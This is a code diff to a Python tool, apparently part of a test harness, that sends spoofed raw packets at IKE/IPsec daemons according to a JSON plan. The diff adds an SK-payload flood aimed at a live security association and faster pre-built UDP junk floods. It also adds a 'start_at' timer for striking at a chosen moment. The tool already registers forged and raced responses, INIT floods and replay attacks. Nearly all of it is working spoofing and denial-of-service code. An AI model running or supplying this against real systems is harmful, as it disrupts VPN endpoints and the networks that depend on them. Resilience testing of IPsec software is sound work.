@@ -7,8 +7,9 @@ Two halves:
   plan says, with spoofed source addresses (raw sockets, IP header included), then prints one
   JSON object: packets sent by step name.
 
-PLAN: {"steps": [{"name": .., "attack": .., ...arguments of that attack}, ...]}; every attack
-is bounded by its packet count and by `seconds` (default 10).
+PLAN: {"steps": [{"name": .., "attack": .., ...arguments of that attack}, ...], "start_at": T}
+(T, optional: a time.time() to wait for, to hit a moment); every attack is bounded by its
+packet count and by `seconds` (default 10).
 """
 
 from __future__ import annotations
@@ -232,24 +233,38 @@ def _ike_request_from(frame: bytes, source: bytes) -> bytes | None:
 
 
 def forged_requests(wire: Wire, *, src: str, dst: str, spi_i: str, spi_r: str,
-                    message_ids: list[int], seconds: float = 10, rate: float = 2000) -> None:
+                    message_ids: list[int]) -> None:
     """Requests on the live IKE SA with an SK payload of garbage, and in clear; and IKE_SA_INIT
     requests naming the live SA's SPIs."""
     for mid in message_ids:
         for exchange in (ExchangeType.INFORMATIONAL, ExchangeType.CREATE_CHILD_SA,
                          ExchangeType.IKE_SA_INIT):
-            for first, body in ((46, _generic(0, os.urandom(80))), (0, b"")):
-                header = Header(bytes.fromhex(spi_i), bytes.fromhex(spi_r), first, exchange,
-                                0, mid, HEADER_LEN + len(body))
-                for flags in (FLAG_INITIATOR, 0):
-                    data = bytearray(header.encode() + body)
-                    data[19] = flags
-                    for packet in _ike_datagrams(src, dst, bytes(data)):
+            for flags in (FLAG_INITIATOR, 0):
+                for encrypted in (True, False):
+                    data = _request(spi_i, spi_r, exchange, mid, flags, encrypted)
+                    for packet in _ike_datagrams(src, dst, data):
                         wire.send(packet, dst)
 
 
-def _generic(next_payload: int, body: bytes) -> bytes:
-    return bytes([next_payload, 0]) + (4 + len(body)).to_bytes(2, "big") + body
+def sk_flood(wire: Wire, *, src: str, dst: str, spi_i: str, spi_r: str, message_id: int,
+             from_initiator: bool, count: int, seconds: float = 10, rate: float = 4000) -> None:
+    """INFORMATIONAL requests with garbage SK payloads on the live IKE SA, to 4500 (marker):
+    each is an event for dst's daemon and an integrity check (RFC 7296 3.14) that fails."""
+    flags = FLAG_INITIATOR if from_initiator else 0
+    pool = [next(_ike_datagrams(src, dst, _request(spi_i, spi_r, ExchangeType.INFORMATIONAL,
+                                                   message_id, flags, True), (NAT_T_PORT,)))
+            for _ in range(min(count, 256))]
+    for i in _paced(count, seconds, rate):
+        wire.send(pool[i % len(pool)], dst)
+
+
+def _request(spi_i: str, spi_r: str, exchange: int, mid: int, flags: int,
+             encrypted: bool) -> bytes:
+    """An IKE request header and, if `encrypted`, an SK payload (46) of 80 random bytes."""
+    body = bytes([0, 0]) + (4 + 80).to_bytes(2, "big") + os.urandom(80) if encrypted else b""
+    header = Header(bytes.fromhex(spi_i), bytes.fromhex(spi_r), 46 if encrypted else 0,
+                    exchange, flags, mid, HEADER_LEN + len(body))
+    return header.encode() + body
 
 
 def replay_ike(wire: Wire, *, messages: list[dict], rounds: int = 2) -> None:
@@ -262,10 +277,12 @@ def replay_ike(wire: Wire, *, messages: list[dict], rounds: int = 2) -> None:
 
 def udp_junk(wire: Wire, *, src: str, dst: str, port: int, count: int, marker: bool = False,
              seconds: float = 10, rate: float = 4000) -> None:
-    """Random datagrams (8..200 bytes) to dst:port; with `marker`, non-ESP-marker junk."""
-    for _ in _paced(count, seconds, rate):
-        body = os.urandom(8 + os.urandom(1)[0] % 192)
-        wire.send(ip_udp(src, dst, port, port, (NON_ESP_MARKER if marker else b"") + body), dst)
+    """Random datagrams (8..200 bytes) to dst:port; with `marker`, non-ESP-marker junk.
+    (256 different ones, built beforehand, so that the rate is the wire's, not scapy's.)"""
+    pool = [ip_udp(src, dst, port, port, (NON_ESP_MARKER if marker else b"") +
+                   os.urandom(8 + os.urandom(1)[0] % 192)) for _ in range(min(count, 256))]
+    for i in _paced(count, seconds, rate):
+        wire.send(pool[i % len(pool)], dst)
 
 
 def init_flood(wire: Wire, *, dst: str, sources: list[str], seconds: float = 10,
@@ -307,12 +324,16 @@ def cleartext(wire: Wire, *, src: str, dst: str, dport: int, payload: str, count
         time.sleep(0.01)
 
 
-ATTACKS = {f.__name__: f for f in (forged_responses, race_responses, forged_requests, replay_ike,
-                                   udp_junk, init_flood, raw_esp, replay_esp, cleartext)}
+ATTACKS = {f.__name__: f for f in (forged_responses, race_responses, forged_requests, sk_flood,
+                                   replay_ike, udp_junk, init_flood, raw_esp, replay_esp,
+                                   cleartext)}
 
 
 def main(plan_path: str) -> int:
     plan = json.loads(Path(plan_path).read_text())
+    ip_udp("192.0.2.1", "192.0.2.2", 1, 1, b"")  # scapy imported before the clock matters
+    print("ready", file=sys.stderr, flush=True)
+    time.sleep(max(0.0, plan.get("start_at", 0) - time.time()))
     sent = {}
     for step in plan["steps"]:
         step = dict(step)
@@ -320,7 +341,7 @@ def main(plan_path: str) -> int:
         wire = Wire()
         attack(wire, **step)
         sent[name] = wire.sent
-    print(json.dumps(sent))
+    print(json.dumps(sent), flush=True)
     return 0
 
 
